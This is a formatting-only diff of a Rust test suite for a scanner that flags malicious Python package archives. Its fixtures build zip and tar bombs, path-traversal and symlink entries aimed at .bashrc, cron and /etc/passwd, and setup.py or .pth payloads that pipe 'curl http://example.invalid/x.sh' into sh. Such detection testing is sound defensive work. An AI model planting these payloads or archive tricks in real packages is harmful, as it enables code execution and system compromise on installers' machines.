@@ -11,7 +11,8 @@ const HANG: Duration = Duration::from_secs(20);
 const MEMORY: u64 = 512 << 20;
 
 fn scan(name: &str, bytes: &[u8], file_name: &str) -> PackageReport {
-    let (report, elapsed, peak) = measured(name, || engine().scan_bytes(bytes, file_name, file_name));
+    let (report, elapsed, peak) =
+        measured(name, || engine().scan_bytes(bytes, file_name, file_name));
     assert!(elapsed < HANG, "{name} took {elapsed:?}");
     assert!(peak < MEMORY, "{name} peaked at {peak} bytes");
     report
@@ -25,7 +26,9 @@ fn rules_fired(r: &PackageReport) -> Vec<&str> {
 fn zip_bomb_is_not_clean() {
     // One member inflating to 256 MiB of spaces: the ratio limit stops it.
     let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated).large_file(true);
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated)
+        .large_file(true);
     w.start_file("bomb/setup.py", opts).unwrap();
     w.write_all(b"# padding\n").unwrap();
     let spaces = vec![b' '; 1 << 20];
@@ -35,13 +38,20 @@ fn zip_bomb_is_not_clean() {
     let bytes = w.finish().unwrap().into_inner();
     let r = scan("zip bomb (256 MiB member)", &bytes, "bomb-1.0.zip");
     assert_ne!(r.verdict, Verdict::Clean);
-    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"), "{:?}", rules_fired(&r));
+    assert!(
+        rules_fired(&r).contains(&"archive-limit-exceeded"),
+        "{:?}",
+        rules_fired(&r)
+    );
 }
 
 #[test]
 fn tar_gz_ratio_bomb_is_not_clean() {
     // Streamed straight into gzip, so the test never holds the inflated bytes.
-    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
+    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::fast(),
+    ));
     let size = 1u64 << 28;
     let mut h = tar::Header::new_gnu();
     h.set_size(size);
@@ -50,9 +60,17 @@ fn tar_gz_ratio_bomb_is_not_clean() {
     h.set_cksum();
     t.append(&h, std::io::repeat(0).take(size)).unwrap();
     let bytes = t.into_inner().unwrap().finish().unwrap();
-    let r = scan("tar.gz ratio bomb (256 MiB member)", &bytes, "bomb-1.0.tar.gz");
+    let r = scan(
+        "tar.gz ratio bomb (256 MiB member)",
+        &bytes,
+        "bomb-1.0.tar.gz",
+    );
     assert_ne!(r.verdict, Verdict::Clean);
-    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"), "{:?}", rules_fired(&r));
+    assert!(
+        rules_fired(&r).contains(&"archive-limit-exceeded"),
+        "{:?}",
+        rules_fired(&r)
+    );
 }
 
 use std::io::Read as _;
@@ -80,15 +98,49 @@ fn raw_entry(name: &str, kind: tar::EntryType, link: Option<&str>, data: &[u8]) 
 #[test]
 fn traversal_and_links_are_findings() {
     let mut raw = Vec::new();
-    raw.extend(raw_entry("evil-1.0/setup.py", tar::EntryType::Regular, None, b"from setuptools import setup\nsetup(name='evil')\n"));
-    raw.extend(raw_entry("evil-1.0/../../home/user/.bashrc", tar::EntryType::Regular, None, b"echo hi\n"));
-    raw.extend(raw_entry("/etc/cron.d/evil", tar::EntryType::Regular, None, b"* * * * * root true\n"));
-    raw.extend(raw_entry("evil-1.0/link", tar::EntryType::Symlink, Some("/etc/passwd"), b""));
-    raw.extend(raw_entry("evil-1.0/loop", tar::EntryType::Symlink, Some("loop"), b""));
-    raw.extend(raw_entry("evil-1.0/hard", tar::EntryType::Link, Some("evil-1.0/setup.py"), b""));
+    raw.extend(raw_entry(
+        "evil-1.0/setup.py",
+        tar::EntryType::Regular,
+        None,
+        b"from setuptools import setup\nsetup(name='evil')\n",
+    ));
+    raw.extend(raw_entry(
+        "evil-1.0/../../home/user/.bashrc",
+        tar::EntryType::Regular,
+        None,
+        b"echo hi\n",
+    ));
+    raw.extend(raw_entry(
+        "/etc/cron.d/evil",
+        tar::EntryType::Regular,
+        None,
+        b"* * * * * root true\n",
+    ));
+    raw.extend(raw_entry(
+        "evil-1.0/link",
+        tar::EntryType::Symlink,
+        Some("/etc/passwd"),
+        b"",
+    ));
+    raw.extend(raw_entry(
+        "evil-1.0/loop",
+        tar::EntryType::Symlink,
+        Some("loop"),
+        b"",
+    ));
+    raw.extend(raw_entry(
+        "evil-1.0/hard",
+        tar::EntryType::Link,
+        Some("evil-1.0/setup.py"),
+        b"",
+    ));
     raw.extend(raw_entry("evil-1.0/dev", tar::EntryType::Char, None, b""));
     raw.extend(vec![0u8; 1024]);
-    let r = scan("tar with ../, absolute, symlink, hardlink, device", &gzip(&raw), "evil-1.0.tar.gz");
+    let r = scan(
+        "tar with ../, absolute, symlink, hardlink, device",
+        &gzip(&raw),
+        "evil-1.0.tar.gz",
+    );
     assert_ne!(r.verdict, Verdict::Clean);
     let fired = rules_fired(&r);
     assert!(fired.contains(&"archive-path-escape"), "{fired:?}");
@@ -100,22 +152,38 @@ fn traversal_and_links_are_findings() {
 #[test]
 fn deeply_nested_source_is_not_clean() {
     for (what, src) in [
-        ("brackets", format!("x = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000))),
-        ("calls", format!("x = {}1{}\n", "f(".repeat(100_000), ")".repeat(100_000))),
+        (
+            "brackets",
+            format!("x = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000)),
+        ),
+        (
+            "calls",
+            format!("x = {}1{}\n", "f(".repeat(100_000), ")".repeat(100_000)),
+        ),
         ("unary", format!("x = {}1\n", "-".repeat(100_000))),
         ("lambdas", format!("x = {}1\n", "lambda: ".repeat(100_000))),
     ] {
         let files = vec![("deep-1.0/deep/__init__.py".to_string(), src.into_bytes())];
-        let r = scan(&format!("100,000 nested {what}"), &gzip(&tar(&files)), "deep-1.0.tar.gz");
+        let r = scan(
+            &format!("100,000 nested {what}"),
+            &gzip(&tar(&files)),
+            "deep-1.0.tar.gz",
+        );
         assert_ne!(r.verdict, Verdict::Clean, "{what}");
-        assert!(rules_fired(&r).contains(&"unanalysed-code"), "{what}: {:?}", rules_fired(&r));
+        assert!(
+            rules_fired(&r).contains(&"unanalysed-code"),
+            "{what}: {:?}",
+            rules_fired(&r)
+        );
         assert!(!r.not_analysed.is_empty());
     }
 }
 
 #[test]
 fn many_members_hit_the_member_limit() {
-    let files: Vec<(String, Vec<u8>)> = (0..200_000).map(|i| (format!("many-1.0/f{i}.txt"), Vec::new())).collect();
+    let files: Vec<(String, Vec<u8>)> = (0..200_000)
+        .map(|i| (format!("many-1.0/f{i}.txt"), Vec::new()))
+        .collect();
     let bytes = zip(&files);
     let r = scan("200,000 members", &bytes, "many-1.0.zip");
     assert_ne!(r.verdict, Verdict::Clean);
@@ -124,20 +192,31 @@ fn many_members_hit_the_member_limit() {
 
 #[test]
 fn nested_archives_stop_at_the_depth_limit() {
-    let mut inner = zip(&[("x/setup.py".to_string(), b"import os\nos.system('curl http://example.invalid/x | sh')\n".to_vec())]);
+    let mut inner = zip(&[(
+        "x/setup.py".to_string(),
+        b"import os\nos.system('curl http://example.invalid/x | sh')\n".to_vec(),
+    )]);
     for i in 0..50 {
         inner = zip(&[(format!("layer{i}.zip"), inner)]);
     }
     let r = scan("zip nested 50 deep", &inner, "nest-1.0.zip");
     assert_ne!(r.verdict, Verdict::Clean);
-    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"), "{:?}", rules_fired(&r));
+    assert!(
+        rules_fired(&r).contains(&"archive-limit-exceeded"),
+        "{:?}",
+        rules_fired(&r)
+    );
 }
 
 #[test]
 fn truncated_archives_are_unscannable_not_clean() {
     let full = gzip(&tar(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]));
     for cut in [10, full.len() / 2] {
-        let r = scan(&format!("tar.gz truncated at {cut}"), &full[..cut], "t-1.0.tar.gz");
+        let r = scan(
+            &format!("tar.gz truncated at {cut}"),
+            &full[..cut],
+            "t-1.0.tar.gz",
+        );
         assert_ne!(r.verdict, Verdict::Clean, "cut at {cut}");
     }
     let z = zip(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]);
@@ -147,17 +226,28 @@ fn truncated_archives_are_unscannable_not_clean() {
 
 #[test]
 fn payload_after_a_syntax_error_is_still_found() {
-    let src = b"def broken(:\n    pass\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n";
+    let src =
+        b"def broken(:\n    pass\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n";
     let files = vec![("p-1.0/setup.py".to_string(), src.to_vec())];
-    let r = scan("payload after a syntax error", &gzip(&tar(&files)), "p-1.0.tar.gz");
+    let r = scan(
+        "payload after a syntax error",
+        &gzip(&tar(&files)),
+        "p-1.0.tar.gz",
+    );
     assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
 }
 
 #[test]
 fn duplicate_member_hiding_a_payload_is_scanned() {
     let files = vec![
-        ("d-1.0/d/__init__.py".to_string(), b"VERSION = '1.0'\n".to_vec()),
-        ("d-1.0/d/__init__.py".to_string(), b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec()),
+        (
+            "d-1.0/d/__init__.py".to_string(),
+            b"VERSION = '1.0'\n".to_vec(),
+        ),
+        (
+            "d-1.0/d/__init__.py".to_string(),
+            b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec(),
+        ),
     ];
     let r = scan("duplicate member", &gzip(&tar(&files)), "d-1.0.tar.gz");
     assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
@@ -166,17 +256,36 @@ fn duplicate_member_hiding_a_payload_is_scanned() {
 #[test]
 fn hidden_places_are_scanned() {
     let payload = b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec();
-    for (what, path) in [("tests/", "h-1.0/tests/test_x.py"), (".pth", "h-1.0/h.pth"), ("dot dir", "h-1.0/.hidden/x.py")] {
-        let data = if path.ends_with(".pth") { b"import os; os.system('curl http://example.invalid/x.sh | sh')\n".to_vec() } else { payload.clone() };
-        let r = scan(&format!("payload in {what}"), &gzip(&tar(&[(path.to_string(), data)])), "h-1.0.tar.gz");
+    for (what, path) in [
+        ("tests/", "h-1.0/tests/test_x.py"),
+        (".pth", "h-1.0/h.pth"),
+        ("dot dir", "h-1.0/.hidden/x.py"),
+    ] {
+        let data = if path.ends_with(".pth") {
+            b"import os; os.system('curl http://example.invalid/x.sh | sh')\n".to_vec()
+        } else {
+            payload.clone()
+        };
+        let r = scan(
+            &format!("payload in {what}"),
+            &gzip(&tar(&[(path.to_string(), data)])),
+            "h-1.0.tar.gz",
+        );
         assert_ne!(r.verdict, Verdict::Clean, "{what}: {:?}", rules_fired(&r));
     }
     // A non-.py file run by setup.py.
     let files = vec![
-        ("h-1.0/setup.py".to_string(), b"exec(open('h/payload.dat').read())\n".to_vec()),
+        (
+            "h-1.0/setup.py".to_string(),
+            b"exec(open('h/payload.dat').read())\n".to_vec(),
+        ),
         ("h-1.0/h/payload.dat".to_string(), payload),
     ];
-    let r = scan("payload in a .dat run by setup.py", &gzip(&tar(&files)), "h-1.0.tar.gz");
+    let r = scan(
+        "payload in a .dat run by setup.py",
+        &gzip(&tar(&files)),
+        "h-1.0.tar.gz",
+    );
     assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
 }
 
@@ -186,15 +295,38 @@ fn encodings_and_odd_bytes_do_not_hide_code() {
     let mut utf16 = vec![0xff, 0xfe];
     utf16.extend(payload.encode_utf16().flat_map(u16::to_le_bytes));
     let cases: Vec<(&str, Vec<u8>)> = vec![
-        ("latin-1 cookie", [b"# -*- coding: latin-1 -*-\nx = 'caf\xe9'\n".to_vec(), payload.as_bytes().to_vec()].concat()),
+        (
+            "latin-1 cookie",
+            [
+                b"# -*- coding: latin-1 -*-\nx = 'caf\xe9'\n".to_vec(),
+                payload.as_bytes().to_vec(),
+            ]
+            .concat(),
+        ),
         ("utf-16 BOM", utf16),
-        ("unknown codec", format!("# coding: made-up\n{payload}").into_bytes()),
-        ("invalid UTF-8", [b"x = '\xff\xfe'\n".to_vec(), payload.as_bytes().to_vec()].concat()),
-        ("NUL bytes", [b"x = 1\n\0\n".to_vec(), payload.as_bytes().to_vec()].concat()),
-        ("bidi controls", format!("x = 1 # \u{202e} }}\n{payload}").into_bytes()),
+        (
+            "unknown codec",
+            format!("# coding: made-up\n{payload}").into_bytes(),
+        ),
+        (
+            "invalid UTF-8",
+            [b"x = '\xff\xfe'\n".to_vec(), payload.as_bytes().to_vec()].concat(),
+        ),
+        (
+            "NUL bytes",
+            [b"x = 1\n\0\n".to_vec(), payload.as_bytes().to_vec()].concat(),
+        ),
+        (
+            "bidi controls",
+            format!("x = 1 # \u{202e} }}\n{payload}").into_bytes(),
+        ),
     ];
     for (what, src) in cases {
-        let r = scan(what, &gzip(&tar(&[("e-1.0/setup.py".to_string(), src)])), "e-1.0.tar.gz");
+        let r = scan(
+            what,
+            &gzip(&tar(&[("e-1.0/setup.py".to_string(), src)])),
+            "e-1.0.tar.gz",
+        );
         assert_ne!(r.verdict, Verdict::Clean, "{what}");
     }
 }
@@ -202,6 +334,10 @@ fn encodings_and_odd_bytes_do_not_hide_code() {
 #[test]
 fn huge_one_line_string_is_bounded() {
     let src = format!("x = '{}'\n", "A".repeat(50 << 20));
-    let r = scan("50 MB one-line string", &gzip(&tar(&[("s-1.0/s.py".to_string(), src.into_bytes())])), "s-1.0.tar.gz");
+    let r = scan(
+        "50 MB one-line string",
+        &gzip(&tar(&[("s-1.0/s.py".to_string(), src.into_bytes())])),
+        "s-1.0.tar.gz",
+    );
     assert_ne!(r.verdict, Verdict::Clean);
 }
